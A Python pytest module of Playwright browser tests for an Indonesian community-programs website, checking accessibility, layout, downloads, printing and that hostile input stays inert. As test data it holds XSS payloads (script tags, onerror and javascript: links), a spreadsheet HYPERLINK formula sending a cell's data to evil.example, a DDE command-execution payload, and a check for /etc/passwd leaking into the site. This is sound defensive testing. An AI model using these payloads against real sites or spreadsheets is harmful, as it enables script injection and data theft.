"""The sample site in a real headless Chromium (Debian's, driven by Playwright):
each page type loads without console errors or requests off this machine, the
explorer's filters narrow the list and "download what I see" saves exactly the
rows shown, axe-core finds no serious or critical
accessibility violation, a screenshot of each page type is kept, the QR code on
a form's page scans off the screen, and each A4 poster prints on one A4 page.

The hostile Forms corpus (tests/fixtures/hostile_forms/) pulled and built: on every
page nothing runs (a page-level sentinel and the Content Security Policy's violation
events watch), no request leaves 127.0.0.1, every payload reads as the literal text
it was typed, no file outside the repository was read into the site, and its
downloads keep formulas inert. The policy blocks a script injected into a real page
as if escaping had failed, and Material's drawer, search and the explorer still work.

All browser tests live in this one module so one pytest worker owns the browser.
`make test` installs Chromium (apt) and axe-core (npm ci).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import threading
import urllib.request
from collections import defaultdict
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import openpyxl
import pypdf
import pytest
from playwright.sync_api import sync_playwright

from scripts.model import store
from scripts.site import build
from scripts.sources import files as sources

from .helpers import (
    FIXTURES,
    FORMS,
    REPO,
    broken_links,
    build_data,
    build_fixture,
    config_with_forms,
    decode_qr,
    pull_code,
    site_forms,
)
from .privacy import HOSTILE_FORMS

CHROMIUM = "/usr/bin/chromium"
# Without the background-networking flags Chromium keeps calling home.
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
AXE = REPO / "node_modules" / "axe-core" / "axe.min.js"
# Installed in every page before its own scripts: records every call of what injected
# code calls first (alert …; not eval, which Playwright's own evaluate() uses) and every
# Content Security Policy violation, so a payload that runs is seen running, not
# guessed from the HTML.
SENTINEL = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = (...args) => window.__ran.push(`${name}: ${String(args[0]).slice(0, 80)}`);
}
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.effectiveDirective}: ${event.blockedURI || event.sample}`);
});
"""
SCREENSHOTS = REPO / "test-output" / "screenshots"


class QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):
        pass


@contextlib.contextmanager
def serve(site_dir: Path):
    """The site on 127.0.0.1 (a free port): yields its base URL."""
    handler = functools.partial(QuietHandler, directory=str(site_dir))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def site(sample_site):
    """The sample site served: (base URL, data)."""
    data_dir, site_dir = sample_site
    with serve(site_dir) as base:
        yield base, store.load(data_dir)


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class Visit:
    """A page with everything it logs and requests recorded."""

    def __init__(self, browser, url: str, **context_options):
        self.errors: list[str] = []
        self.offsite: list[str] = []
        context_options.setdefault("viewport", {"width": 390, "height": 844})
        self.context = browser.new_context(**context_options)
        self.context.add_init_script(SENTINEL)
        self.page = self.context.new_page()
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("dialog", self._dialog)
        self.page.route("**/*", self._route)
        self.page.goto(url, wait_until="load")

    def _dialog(self, dialog):
        self.errors.append(f"dialog: {dialog.message}")  # e.g. alert(1) from hostile data
        dialog.dismiss()

    def _route(self, route):
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            self.offsite.append(route.request.url)
            route.abort()

    def ran(self) -> list[str]:
        """What injected code ran or tried to run on the current page (see SENTINEL)."""
        return self.page.evaluate("[...window.__ran, ...window.__violations]")

    def close(self):
        self.context.close()


# One page of every type the site has, filled in from the first program of the data.
PAGE_TYPES = {
    "beranda": "",
    "sektor-semua": "sektor/",
    "sektor": "sektor/{sector}/",
    "anggota-semua": "anggota/",
    "anggota": "anggota/{member}/",
    "program": "program/{id}/",
    "penjelajah": "program/",
    "kebutuhan": "kebutuhan/",
    "kepatuhan": "kepatuhan/",
    "kepatuhan-tahun": "kepatuhan/{year}/",
    "laporan-semua": "laporan/",
    "laporan": "laporan/{year}/",
    "data-terbuka": "data/",
    "pembaruan": "pembaruan/",
    "bergabung": "bergabung/",
    "lapor": "lapor/",
    "poster": "bergabung/poster/",
    "tentang": "tentang/",
    "cari": "cari/?q=posyandu",
    "404": "404.html",
}


def page_url(site, kind: str) -> str:
    base, data = site[:2]
    return base + PAGE_TYPES[kind].format(**data["programs"][0])


# Elements of the page content wider than their own box (none may be), leaving out
# what is hidden for screen readers only (a 1 px clipped box, e.g. a phone card's thead).
OVERFLOWING = """() => [...document.querySelectorAll('.md-content *')]
  .filter(e => e.clientWidth > 1 && e.scrollWidth > e.clientWidth + 1)
  .map(e => `${e.tagName.toLowerCase()}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`)"""


@pytest.mark.parametrize(("width", "height"), [(360, 800), (1280, 900)])
@pytest.mark.parametrize("kind", list(PAGE_TYPES))
def test_page_loads_cleanly_and_is_accessible(browser, site, kind, width, height):
    """Every page type on a phone and a desktop: nothing in its content scrolls
    sideways, axe-core finds no serious or critical violation, no console error,
    no request off this machine; its screenshot is kept for a person to look at."""
    visit = Visit(browser, page_url(site, kind), viewport={"width": width, "height": height})
    try:
        page = visit.page
        assert page.locator("footer time").inner_text().strip()
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / f"{kind}-{width}.png"), full_page=True)
        assert page.evaluate(OVERFLOWING) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        # Evaluated, not added as a <script>: the page's policy refuses inline scripts.
        page.evaluate(AXE.read_text(encoding="utf-8"))
        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        serious = [
            (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
            for v in result["violations"]
            if v["impact"] in ("serious", "critical")
        ]
        assert serious == []
        assert visit.errors == []
        assert visit.offsite == []
        assert visit.ran() == []
    finally:
        visit.close()


def visible_rows(page):
    return page.locator("#explorer-table tbody tr:visible")


def test_explorer_filters_narrow_the_list(browser, site):
    base, data = site
    visit = Visit(browser, f"{base}program/")
    try:
        page = visit.page
        total = len(data["programs"])
        assert visible_rows(page).count() == total
        sector = data["programs"][0]["sector"]
        page.select_option("#f-sektor", sector)
        in_sector = [p for p in data["programs"] if p["sector"] == sector]
        assert visible_rows(page).count() == len(in_sector) < total
        assert page.locator("#explorer-count").inner_text() == (
            f"Menampilkan {len(in_sector)} dari {total} program."
        )
        year = in_sector[0]["year"]
        page.select_option("#f-tahun", str(year))
        both = [p for p in in_sector if p["year"] == year]
        assert visible_rows(page).count() == len(both)

        member = data["programs"][0]["member"]
        page.click("#explorer-filters button[type=reset]")
        page.select_option("#f-anggota", member)
        own = [p for p in data["programs"] if p["member"] == member]
        assert visible_rows(page).count() == len(own)

        title = data["programs"][0]["title"]
        page.click("#explorer-filters button[type=reset]")
        page.fill("#f-q", title)
        assert 1 <= visible_rows(page).count() < total
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_takes_filters_from_the_address(browser, site):
    base, data = site
    kecamatan = next(p["kecamatan"][0] for p in data["programs"] if p["kecamatan"])
    visit = Visit(browser, f"{base}program/?kecamatan={kecamatan}")
    try:
        expected = [p for p in data["programs"] if kecamatan in p["kecamatan"]]
        assert visible_rows(visit.page).count() == len(expected)
    finally:
        visit.close()


def test_explorer_without_javascript_is_the_whole_table(browser, site):
    base, data = site
    visit = Visit(browser, f"{base}program/", java_script_enabled=False)
    try:
        assert visit.page.locator("#explorer-filters").is_hidden()
        assert visible_rows(visit.page).count() == len(data["programs"])
    finally:
        visit.close()


def read_csv(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def download_shown(page, tmp_path) -> tuple[list[str], list[dict]]:
    """Press "Unduh yang tampil (CSV)": (the ids of the rows shown, the rows saved)."""
    shown = visible_rows(page).evaluate_all("rows => rows.map(r => r.dataset.id)")
    with page.expect_download() as download:
        page.click("#explorer-download")
    saved = tmp_path / download.value.suggested_filename
    download.value.save_as(saved)
    return shown, read_csv(saved.read_bytes())


def published_rows(base: str) -> dict[str, dict]:
    with urllib.request.urlopen(f"{base}data/programs.csv") as response:
        return {row["id"]: row for row in read_csv(response.read())}


def test_explorer_downloads_exactly_what_it_shows(browser, site, tmp_path):
    base, data = site
    visit = Visit(browser, f"{base}program/", accept_downloads=True)
    try:
        page = visit.page
        program = data["programs"][0]
        page.select_option("#f-sektor", program["sector"])
        page.select_option("#f-tahun", str(program["year"]))
        shown, rows = download_shown(page, tmp_path)
        expected = {
            p["id"]
            for p in data["programs"]
            if p["sector"] == program["sector"] and p["year"] == program["year"]
        }
        assert [row["id"] for row in rows] == shown and set(shown) == expected
        assert 1 < len(rows) < len(data["programs"])
        published = published_rows(base)
        assert rows == [published[key] for key in shown]  # programs.csv's columns and cells

        page.click("#explorer-filters button[type=reset]")
        page.fill("#f-q", "zzz tidak ada")
        assert download_shown(page, tmp_path) == ([], [])  # the header alone
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_download_neutralises_formulas_as_programs_csv_does(browser, tmp_path):
    data = store.load(FIXTURES / "site")
    data["programs"][0].update(
        title='=HYPERLINK("http://x","y")',
        description='+1, "dua"\nbaris dua',
        partner="@SUM(A1)",
        location="\t-2",
    )
    store.save(tmp_path / "data", data)
    site_dir = tmp_path / "site"
    config = config_with_forms(tmp_path, FORMS)
    assert build.build(tmp_path / "data", site_dir, tmp_path / "build", config) == 0
    with serve(site_dir) as base:
        visit = Visit(browser, f"{base}program/", accept_downloads=True)
        try:
            shown, rows = download_shown(visit.page, tmp_path)
            assert rows == list(published_rows(base)[key] for key in shown)
            (hostile,) = [row for row in rows if row["id"] == data["programs"][0]["id"]]
            assert hostile["title"] == '\'=HYPERLINK("http://x","y")'
            assert hostile["location"] == "'\t-2"
            assert visit.errors == [] and visit.offsite == []
        finally:
            visit.close()


def test_annual_report_prints_on_a4_without_the_site_around_it(browser, site):
    base, data = site
    year = data["programs"][0]["year"]
    visit = Visit(browser, f"{base}laporan/{year}/")
    try:
        page = visit.page
        reader = pypdf.PdfReader(io.BytesIO(page.pdf(format="A4", prefer_css_page_size=True)))
        box = reader.pages[0].mediabox
        assert abs(float(box.width) - 595) <= 1 and abs(float(box.height) - 842) <= 1
        first = " ".join(reader.pages[0].extract_text().split())
        assert f"Laporan Tahunan {year}" in first
        assert page.locator('[data-figure="amount"]').inner_text() in first
        page.emulate_media(media="print")
        assert page.locator(".md-header, .md-sidebar, .md-footer, .report-tools").evaluate_all(
            "nodes => nodes.every(n => getComputedStyle(n).display === 'none')"
        )
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def search(page, base: str, query: str = "", **filters):
    """The search page asked for `query` (and filters) through its address, once its
    answer is shown: (the status line, the results' texts, their links)."""
    params = urlencode({"q": query, **filters})
    page.goto(f"{base}cari/?{params}", wait_until="load")
    page.wait_for_function(
        "() => !/^(Memuat|Mencari|Pencarian memerlukan)/.test("
        "document.getElementById('search-status').textContent)"
    )
    items = page.locator(".search-results__item")
    links = items.locator("a.search-results__title")
    hrefs = [urlsplit(h).path for h in links.evaluate_all("l => l.map(a => a.href)")]
    return page.inner_text("#search-status"), items.all_inner_texts(), hrefs


def test_hostile_data_runs_nothing_even_in_search_results(browser, tmp_path):
    _, site_dir = build_fixture("hostile", tmp_path)
    with serve(site_dir) as base:
        visit = Visit(browser, f"{base}anggota/hostile-member/")
        try:
            page = visit.page
            for path in ("program/hostile-member-program/", "kebutuhan/", "program/"):
                page.goto(base + path, wait_until="load")
            for query in ("config", "alert", "script"):
                _, texts, _ = search(page, base, query)
                assert texts, query
                assert page.locator(".search-results img, .search-results script").count() == 0
            assert any(
                "<script>alert(1)</script>" in text for text in search(page, base, "alert")[1]
            )
            assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
        finally:
            visit.close()


def test_search_finds_the_posyandu_program_first_and_stems_indonesian(browser, site):
    base, data = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        _, _, hrefs = search(page, base, "posyandu")
        posyandu = {
            f"/program/{p['id']}/" for p in data["programs"] if "posyandu" in p["title"].lower()
        }
        assert hrefs[0] in posyandu
        # "mendidik" is not on the Pendidikan page; its stem (didik) is.
        _, _, hrefs = search(page, base, "mendidik")
        assert "/sektor/pendidikan/" in hrefs
        sector_page = page.context.request.get(f"{base}sektor/pendidikan/").text().lower()
        assert "mendidik" not in sector_page and "pendidikan" in sector_page
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


OPEN_FORMS = site_forms(FORMS)


@pytest.mark.parametrize("key", ["members", "programs"])
def test_qr_code_on_the_page_scans_off_the_screen(browser, site, key, tmp_path):
    base, _ = site
    form = OPEN_FORMS[key]
    visit = Visit(browser, f"{base}{form.page}")
    try:
        shot = tmp_path / "qr.png"
        visit.page.locator(".form-link__qr svg").screenshot(path=str(shot))
        assert decode_qr(shot) == [form.url]
    finally:
        visit.close()


# The printable area of A4 with the poster's 15 mm margins, in CSS pixels.
PRINTABLE = {"width": round(180 / 25.4 * 96), "height": round(267 / 25.4 * 96)}


@pytest.mark.parametrize("key", ["members", "programs"])
def test_poster_prints_on_one_a4_page_with_nothing_cut(browser, site, key):
    base, _ = site
    form = OPEN_FORMS[key]
    visit = Visit(browser, f"{base}{form.page}poster/")
    try:
        page = visit.page
        reader = pypdf.PdfReader(io.BytesIO(page.pdf(format="A4", prefer_css_page_size=True)))
        assert len(reader.pages) == 1
        box = reader.pages[0].mediabox
        assert abs(float(box.width) - 595) <= 1 and abs(float(box.height) - 842) <= 1
        text = " ".join(reader.pages[0].extract_text().split())
        assert form.call in text and form.link_text in text
        # Laid out as on paper: every part of the poster within the printable area.
        page.set_viewport_size(PRINTABLE)
        page.emulate_media(media="print")
        boxes = page.locator(".poster > *").evaluate_all(
            "nodes => nodes.map(n => n.getBoundingClientRect().toJSON())"
        )
        assert len(boxes) >= 6
        for part in boxes:
            assert part["left"] >= 0 and part["right"] <= PRINTABLE["width"], part
            assert part["top"] >= 0 and part["bottom"] <= PRINTABLE["height"], part
        assert page.locator(".md-header, .md-footer, .poster-tools").evaluate_all(
            "nodes => nodes.every(n => getComputedStyle(n).display === 'none')"
        )
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(
            path=str(SCREENSHOTS / f"poster-{form.page.strip('/')}-cetak.png"), full_page=True
        )
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


# --- the hostile Forms corpus, and the Content Security Policy --------------------

# What spreadsheets run as a formula (OWASP, "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_forms_site(tmp_path_factory):
    """The hostile Forms corpus pulled, built and served: (base URL, data, site dir)."""
    root = tmp_path_factory.mktemp("hostile-forms")
    paths = {key: HOSTILE_FORMS / f"{key}.csv" for key in sources.SHEET_KEYS}
    assert pull_code("csv", root / "data", paths=paths) == 0
    site_dir = root / "site"
    config = config_with_forms(root, FORMS)
    assert build.build(root / "data", site_dir, root / "build", config) == 0
    with serve(site_dir) as base:
        yield base, store.load(root / "data"), site_dir


def shown_texts(data: dict) -> dict[str, list[str]]:
    """Page path → the values of data/ it shows as text."""
    shown = defaultdict(list)
    for m in data["members"]:
        keys = ("name", "legal_form", "industry", "address", "kelurahan")
        shown[f"anggota/{m['id']}/"] += [m[k] for k in keys if m[k]]
        shown[f"anggota/{m['id']}/"] += [
            m["contact"][k] for k in ("name", "title") if m.get("contact")
        ]
        shown["anggota/"].append(m["name"])
    for p in data["programs"]:
        keys = ("title", "description", "location", "partner")
        shown[f"program/{p['id']}/"] += [p[k] for k in keys if p[k]]
        shown["program/"].append(p["title"])
    for need in data["needs"]:
        shown["kebutuhan/"] += [need[k] for k in ("title", "proposer", "description") if need[k]]
    return shown


def _words(text: str) -> str:
    return " ".join(text.split())


def test_hostile_forms_run_nothing_and_read_as_typed_on_every_page(browser, hostile_forms_site):
    base, data, site_dir = hostile_forms_site
    passwd = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
    for path in site_dir.rglob("*"):
        # No include of a file outside the repository ever ran.
        assert not path.is_file() or passwd.encode() not in path.read_bytes(), path
    shown = shown_texts(data)
    # The page titles come from the front matter: a broken one would fall back to the file name.
    titles = {f"anggota/{m['id']}/": m["name"] for m in data["members"]}
    titles |= {f"program/{p['id']}/": p["title"] for p in data["programs"]}
    urls = sorted(
        str(p.relative_to(site_dir)).removesuffix("index.html") for p in site_dir.rglob("*.html")
    )
    assert len(urls) > 40 and all(key in urls for key in shown)
    visit = Visit(browser, base)  # one context and page for them all: fast
    try:
        page = visit.page
        for url in urls:
            page.goto(base + url, wait_until="domcontentloaded")
            assert visit.ran() == [], url
            if url in shown:  # laid out as a reader sees it: slower, so where data shows
                text = _words(page.inner_text("body"))
                missing = [value for value in shown[url] if _words(value) not in text]
                assert missing == [], url
            if url in titles:
                assert _words(page.title()).startswith(_words(titles[url]) + " - "), url
        _, texts, _ = search(page, base, "alert")  # results are built from the index
        assert any("<script>" in text for text in texts)
        assert page.locator(".search-results :is(img, script, iframe, svg[onload])").count() == 0
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for cell in row]


def test_hostile_forms_downloads_keep_formulas_inert(browser, hostile_forms_site, tmp_path):
    base, data, site_dir = hostile_forms_site
    downloads = site_dir / "data"
    csv_cells = [cell for path in downloads.rglob("*.csv") for cell in _cells(path)]
    assert len(list(downloads.rglob("*.csv"))) > 10
    assert [cell for cell in csv_cells if cell.startswith(FORMULA_START)] == []
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Klik")' in csv_cells
    workbooks = list(downloads.rglob("*.xlsx"))
    assert len(workbooks) >= 2  # the open data and an annual report
    strings = []
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for cell in (c for row in sheet.iter_rows() for c in row if c.value is not None):
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
                    strings.append(cell.value)
    assert "=1+1" in strings and "+cmd|' /C calc'!A0" in strings
    programs = json.loads((downloads / "programs.json").read_text(encoding="utf-8"))
    assert {p["title"] for p in programs} == {p["title"] for p in data["programs"]}  # as typed
    visit = Visit(browser, f"{base}program/", accept_downloads=True)
    try:
        _, rows = download_shown(visit.page, tmp_path)
        assert len(rows) == len(data["programs"])
        saved = [cell for row in rows for cell in row.values()]
        assert [cell for cell in saved if cell.startswith(FORMULA_START)] == []
        assert "'=1+1" in saved
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


# Injected into a built page's content as if escaping had failed; the policy must stop it.
INJECTED = (
    '<script>window.__pwned = "script"</script>'
    "<img src=x onerror=\"window.__pwned = 'onerror'\">"
    "<a id=injected href=\"javascript:window.__pwned = 'link'\">x</a>"
    '<img src="https://evil.example/x.png">'
)


def test_the_policy_blocks_an_injected_script_and_lets_material_work(browser, site):
    base, data = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        article = '<article class="md-content__inner md-typeset">'

        def inject(route):
            response = route.fetch()
            body = response.text()
            assert article in body
            route.fulfill(response=response, body=body.replace(article, article + INJECTED))

        page.route(f"{base}anggota/", inject)  # after Visit's route: tried first
        page.goto(f"{base}anggota/", wait_until="load")
        page.click("#injected")
        assert page.evaluate("window.__pwned") is None
        blocked = visit.ran()
        assert {v.split(":")[0] for v in blocked} == {
            "script-src-elem",
            "script-src-attr",
            "img-src",
        }
        assert visit.offsite == []  # refused by the policy before any request
        page.unroute(f"{base}anggota/")

        visit.errors.clear()
        page.goto(base, wait_until="load")  # Material under the policy: the drawer …
        page.click("label.md-header__button[for=__drawer]")
        page.locator(".md-nav--primary").first.wait_for(state="visible")
        page.keyboard.press("Escape")
        page.goto(f"{base}sektor/", wait_until="load")  # … the search (WebAssembly) …
        page.click(".site-search__link")
        page.locator("#cari-q").wait_for()  # shown by its script (press_* would not wait)
        page.locator("#cari-q").press_sequentially("kesehatan", delay=20)
        page.locator(".search-results__item").first.wait_for()
        page.goto(f"{base}program/", wait_until="load")  # … and the explorer's filters
        page.select_option("#f-sektor", data["programs"][0]["sector"])
        assert page.locator("#explorer-count").inner_text().startswith("Menampilkan")
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


MONEY = '.money, [data-figure$="amount"], [data-figure="open-cost"]'
MONEY_ON_ONE_LINE = (
    """() => [...document.querySelector('.md-content').querySelectorAll(
  '"""
    + MONEY
    + """')].filter(e => {
  const box = e.getBoundingClientRect(), card = (e.closest('li, td') || e.parentElement)
    .getBoundingClientRect();
  return e.getClientRects().length !== 1 || box.right > card.right + 1 || box.left < card.left - 1;
}).map(e => e.textContent)"""
)


@pytest.fixture(scope="module")
def extreme_site(tmp_path_factory):
    """The hand-made data with amounts of Rp999 triliun and Rp1, and a member name and a
    program title as long as the data contract allows (200 characters), the title with
    a 50-character unbroken word."""
    root = tmp_path_factory.mktemp("extreme")
    data = store.load(FIXTURES / "site")
    data["programs"][0]["amount"] = 999 * 10**12
    data["programs"][1]["amount"] = 1
    data["programs"][2]["title"] = ("Program " + "Pemberdayaan" * 4 + "Ma " + "kat " * 60)[:200]
    data["members"][0]["name"] = ("PT " + "Sentosa Makmur Jaya Abadi " * 12)[:200].strip()
    with serve(build_data(root, data)) as base:
        yield base, data


@pytest.mark.parametrize("width", [360, 768, 1024, 1280])
def test_money_figures_stay_on_one_line_at_every_width(browser, extreme_site, width):
    """Issue 12, defect 1: "Rp38.416.00 / 0.000" no more, at any width."""
    base, data = extreme_site
    page = browser.new_page(viewport={"width": width, "height": 900})
    try:
        program, long_title = data["programs"][0], data["programs"][2]
        pages = ("", "laporan/2025/", "kebutuhan/", f"sektor/{program['sector']}/", "anggota/")
        pages += (f"anggota/{data['members'][0]['id']}/", f"program/{long_title['id']}/")
        for path in pages:
            page.goto(base + path)
            assert page.evaluate(MONEY_ON_ONE_LINE) == [], (width, path)
            assert page.evaluate("document.documentElement.scrollWidth") <= width, (width, path)
        page.goto(base)
        assert page.locator(".md-content .money").count() >= 2  # the selector is not vacuous
        assert "Rp999 triliun" in page.inner_text("[data-figure=amount-compact]")
    finally:
        page.close()


TABLE_PAGES = ["", "anggota/", "program/", "kepatuhan/", "laporan/", "laporan/2025/", "sektor/"]


@pytest.mark.parametrize("width", [360, 1280])
def test_tables_read_on_a_phone_with_the_money_in_sight(browser, site, width):
    """Issue 12, defect 3: no table needs sideways scrolling, and the value column is
    on screen: on a phone each row is a card of "label: value"."""
    base, _ = site
    page = browser.new_page(viewport={"width": width, "height": 800})
    try:
        for path in TABLE_PAGES:
            page.goto(base + path)
            wide = page.evaluate(
                "[...document.querySelectorAll('.md-content .table-wrap, .md-content table')]"
                ".filter(e => e.scrollWidth > e.clientWidth + 1).length"
            )
            assert wide == 0, (width, path)
            money = page.locator('.md-content td[data-label="Nilai kontribusi"]').first
            if money.count():
                box = money.bounding_box()
                assert box["x"] >= 0 and box["x"] + box["width"] <= width, (width, path)
    finally:
        page.close()


def _uneven(kind: str) -> dict:
    """Data shaped unlike the sample: "one" holds a single program; "many" one member
    with 400 programs in 2023 and 2025 and none in 2024 (the reporting year)."""
    data = store.load(FIXTURES / "site")
    first = data["programs"][0]
    if kind == "one":
        data["members"] = [m for m in data["members"] if m["id"] == first["member"]]
        data["programs"], data["needs"] = [first | {"need": None}], []
        return data
    data["programs"] = [
        first
        | {
            "need": None,
            "id": f"{first['member']}-program-{n:03}",
            "title": f"Program {n}",
            "year": 2023 if n % 2 else 2025,
            "reported": "2023-12-01" if n % 2 else "2025-07-01",
        }
        for n in range(400)
    ]
    return data


@pytest.fixture(scope="module", params=["one", "many"])
def uneven_site(request, tmp_path_factory):
    data = _uneven(request.param)
    settings = {"reporting_year": 2024} if request.param == "many" else {}
    site_dir = build_data(tmp_path_factory.mktemp(request.param), data, **settings)
    with serve(site_dir) as base:
        yield base, data, site_dir


def test_uneven_data_keeps_the_layout_and_computes_nothing_from_missing(browser, uneven_site):
    """Issue 12, bad input: a single program; 400 programs of one member with a year
    between without any. Every page type at 360 px: nothing scrolls sideways, money
    on one line, and no "NaN", "None" or invented Rp0 anywhere."""
    page = browser.new_page(viewport={"width": 360, "height": 800})
    try:
        for kind in PAGE_TYPES:
            page.goto(page_url(uneven_site, kind))
            assert page.evaluate(OVERFLOWING) == [], kind
            assert page.evaluate(MONEY_ON_ONE_LINE) == [], kind
            text = page.inner_text("body")
            assert not {"NaN", "None", "undefined", "Rp0 "} & set(
                text.replace("\n", " ").split(" ")
            ), kind
        base, data, site_dir = uneven_site
        page.goto(base)
        assert page.inner_text("[data-figure=programs]") == str(len(data["programs"]))
        assert broken_links(site_dir) == []  # e.g. no annual report of a year without one
    finally:
        page.close()


def test_search_takes_bad_queries_and_filters_as_text(browser, site):
    base, _ = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        status, texts, _ = search(page, base)
        assert status.startswith("Ketik kata yang dicari") and texts == []
        hostile = "\"'<>&<b>x</b>" + "posyandu " * 60  # 500+ characters
        status, _, _ = search(page, base, hostile)
        assert page.input_value("#cari-q") == hostile[:200]  # as much as the box takes
        assert "<b>x</b>" in status and page.locator("#search-status b").count() == 0
        status, texts, _ = search(page, base, "posyandu", sektor="tidak-ada")
        assert "Saringan yang tidak dikenal diabaikan: Sektor" in status and texts
        status, texts, _ = search(page, base, "posyandu", sektor="Lingkungan", tahun="2024")
        assert status.startswith("Tidak ada hasil") and texts == []
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()
